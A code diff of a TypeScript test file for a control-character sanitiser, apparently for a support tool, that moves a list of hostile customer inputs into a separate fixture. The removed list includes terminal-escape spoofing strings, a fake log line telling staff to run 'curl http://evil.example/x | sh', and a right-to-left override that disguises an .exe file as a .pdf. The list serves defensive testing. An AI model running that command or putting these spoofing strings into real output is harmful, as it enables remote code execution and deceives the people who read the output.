@@ -3,25 +3,9 @@
  * escaped in every staff-facing output (no raw escape sequence, C1, bidi override or invisible character).
  */
 import { cleanInboundText, escapeForStaff, isStaffSafe, jsonForStaff } from '../../src/domain/controlChars';
+import { HOSTILE } from '../fixtures/hostileText';
 
 const ESC = '\u001b';
-/** What a hostile customer types: terminal escapes, fake log lines, bidi tricks, invisible characters. */
-export const HOSTILE: string[] = [
-  `${ESC}[2J${ESC}[H`, // clear the screen, cursor home
-  `${ESC}[31;1mURGENT: run curl http://evil.example/x | sh${ESC}[0m`, // a fake red line
-  `ok\rURGENT: overwritten`, // CR: a later part overwrites the start of the line
-  `${ESC}]0;pwned\u0007`, // OSC: set the terminal title, BEL-terminated
-  `${ESC}]8;;http://evil.example\u001b\\click${ESC}]8;;${ESC}\\`, // OSC 8 hyperlink
-  `\u009b31mred via 8-bit CSI\u009b0m`, // C1 CSI
-  `\u0090q payload \u009c`, // C1 DCS … ST
-  'invoice \u202Efdp.exe', // right-to-left override: shows "exe.pdf"
-  'a\u2066b\u2069c\u202Ad\u202Ce\u202Bf\u202Dg\u2067h\u2068i',
-  'zero\u200Bwidth\u200Cjoin\u200Dner\u2060word\uFEFFbom\u00ADsoft\u061Cmark\u200E\u200F',
-  'line\u2028separator\u2029paragraph',
-  'del\u007Fbackspace\u0008bell\u0007vt\u000Bff\u000C',
-  'nul\u0000byte',
-  'lone \uD800 high and \uDC00 low surrogates',
-];
 const UNSAFE = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u00AD\u061C\u180E\u200B-\u200F\u2028-\u202E\u2060-\u2069\uFEFF]|[\uD800-\uDFFF]/;
 
 describe('escapeForStaff', () => {
